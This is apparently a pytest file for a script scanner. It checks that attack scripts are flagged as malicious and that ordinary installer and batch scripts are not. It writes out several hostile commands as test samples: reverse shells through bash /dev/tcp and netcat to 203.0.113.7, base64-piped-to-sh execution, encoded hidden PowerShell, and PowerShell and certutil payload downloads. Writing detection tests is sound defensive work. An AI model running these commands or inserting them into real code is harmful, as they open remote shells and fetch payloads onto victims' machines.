"""Scripts that attack whoever starts them."""

from __future__ import annotations

import pytest
from samples.judging import levels

from picklewatch.core.model import Level

ATTACKS = {
    "a shell to elsewhere": b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/1 0>&1\n",
    "a shell without its name": b"bash -i >& /dev/tcp/203.0.113.7/1 0>&1\n",
    "netcat": b"#!/bin/sh\nnc 203.0.113.7 1 -e /bin/sh\n",
    "what is decoded": b"#!/bin/sh\necho dHJ1ZQ== | base64 -d | sh\n",
    "encoded PowerShell": b"@echo off\r\npowershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\r\n",
    "PowerShell that fetches": b"$u = 'http://203.0.113.7'\r\niex (New-Object Net.WebClient).DownloadString($u)\r\n",
    "certutil": b"@echo off\r\ncertutil -urlcache -f http://203.0.113.7/x x.exe\r\n",
}
HONEST = {
    "an installer": b"#!/bin/sh\ncurl -LsSf https://example.org/install.sh | sh\npip install x\n",
    "a batch file": b"@echo off\r\npython -m venv venv\r\npowershell -Command Expand-Archive x.zip\r\n",
    "a shell": b"#!/bin/bash\nset -e\nnc -z localhost 80\nbase64 -d x > y\n",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_script_that_attacks_is_malicious(name: str) -> None:
    """People are asked to start it."""
    assert levels(ATTACKS[name]) == {"script-attack": Level.MALICIOUS, "script-code": Level.UNVERIFIED}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_script_is_only_a_script(name: str) -> None:
    """It installs, starts and unpacks."""
    assert levels(HONEST[name]) == {"script-code": Level.UNVERIFIED}
